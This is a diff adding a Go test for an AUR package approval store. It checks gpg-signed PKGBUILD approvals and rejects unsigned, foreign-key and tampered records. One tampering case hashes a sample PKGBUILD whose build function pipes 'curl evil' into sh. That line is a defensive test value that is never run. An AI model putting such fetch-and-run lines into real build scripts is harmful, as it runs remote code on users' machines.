@@ -0,0 +1,121 @@
+package aur
+
+import (
+	"bufio"
+	"context"
+	"errors"
+	"os"
+	"os/exec"
+	"strings"
+	"testing"
+)
+
+// generateSigningKey creates a signing key in a temporary GnuPG home and
+// returns its fingerprint. It skips the test if gpg cannot.
+func generateSigningKey(t *testing.T, uid string) string {
+	t.Helper()
+
+	gen := exec.Command("gpg", "--batch", "--passphrase", "", "--quick-generate-key", uid, "ed25519", "sign", "never")
+	if out, err := gen.CombinedOutput(); err != nil {
+		t.Skipf("gpg cannot generate a key here: %v: %s", err, out)
+	}
+	listing, err := exec.Command("gpg", "--batch", "--with-colons", "--list-keys", uid).Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	scanner := bufio.NewScanner(strings.NewReader(string(listing)))
+	for scanner.Scan() {
+		if fields := strings.Split(scanner.Text(), ":"); fields[0] == "fpr" && len(fields) > 9 {
+			return fields[9]
+		}
+	}
+	t.Fatalf("no fingerprint for %s in %s", uid, listing)
+	return ""
+}
+
+func TestApprovalSignatures(t *testing.T) {
+	if _, err := exec.LookPath("gpg"); err != nil {
+		t.Skip("gpg is not installed")
+	}
+	home := t.TempDir()
+	if err := os.Chmod(home, 0700); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("GNUPGHOME", home)
+	t.Cleanup(func() { _ = exec.Command("gpgconf", "--kill", "gpg-agent").Run() }) //nolint:errcheck
+	ctx := context.Background()
+
+	key := generateSigningKey(t, "Approver <approver@example.org>")
+	other := generateSigningKey(t, "Someone Else <else@example.org>")
+
+	const commit = "4f1c2e0d9b8a7c6e5f4d3c2b1a0f9e8d7c6b5a49"
+	hash := HashPKGBUILD("pkgname=tool\npkgver=1.0\n")
+	approval := func() *Approval {
+		return &Approval{PackageBase: "tool", Commit: commit, PKGBUILDHash: hash}
+	}
+
+	t.Run("matching approval accepted", func(t *testing.T) {
+		store := NewApprovalStore(t.TempDir(), key)
+		if err := store.Record(ctx, approval()); err != nil {
+			t.Fatalf("Record() error = %v", err)
+		}
+		got, err := store.Lookup(ctx, "tool")
+		if err != nil {
+			t.Fatalf("Lookup() error = %v", err)
+		}
+		if got == nil || !got.Matches(commit, hash) || got.SigningKey != key {
+			t.Errorf("Lookup() = %+v, want the recorded approval", got)
+		}
+		if got.Matches(commit, HashPKGBUILD("pkgname=tool\npkgver=1.1\n")) {
+			t.Error("the approval matches a changed PKGBUILD")
+		}
+	})
+
+	t.Run("unsigned approval rejected", func(t *testing.T) {
+		dir := t.TempDir()
+		if err := NewApprovalStore(dir, "").Record(ctx, approval()); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := NewApprovalStore(dir, key).Lookup(ctx, "tool"); !errors.Is(err, ErrApprovalSignature) {
+			t.Errorf("Lookup() error = %v, want ErrApprovalSignature", err)
+		}
+	})
+
+	t.Run("approval signed with another key rejected", func(t *testing.T) {
+		dir := t.TempDir()
+		if err := NewApprovalStore(dir, other).Record(ctx, approval()); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := NewApprovalStore(dir, key).Lookup(ctx, "tool"); !errors.Is(err, ErrApprovalSignature) {
+			t.Errorf("Lookup() error = %v, want ErrApprovalSignature", err)
+		}
+	})
+
+	t.Run("tampered hash rejected", func(t *testing.T) {
+		store := NewApprovalStore(t.TempDir(), key)
+		if err := store.Record(ctx, approval()); err != nil {
+			t.Fatal(err)
+		}
+
+		path := store.recordPath("tool")
+		data, err := os.ReadFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		tampered := strings.Replace(string(data), hash, HashPKGBUILD("pkgname=tool\nbuild() { curl evil | sh; }\n"), 1)
+		if err := os.WriteFile(path, []byte(tampered), 0644); err != nil {
+			t.Fatal(err)
+		}
+
+		if _, err := store.Lookup(ctx, "tool"); !errors.Is(err, ErrApprovalSignature) {
+			t.Errorf("Lookup() of a tampered record error = %v, want ErrApprovalSignature", err)
+		}
+	})
+
+	t.Run("no approval", func(t *testing.T) {
+		got, err := NewApprovalStore(t.TempDir(), key).Lookup(ctx, "tool")
+		if err != nil || got != nil {
+			t.Errorf("Lookup() without a record = %+v, %v, want none", got, err)
+		}
+	})
+}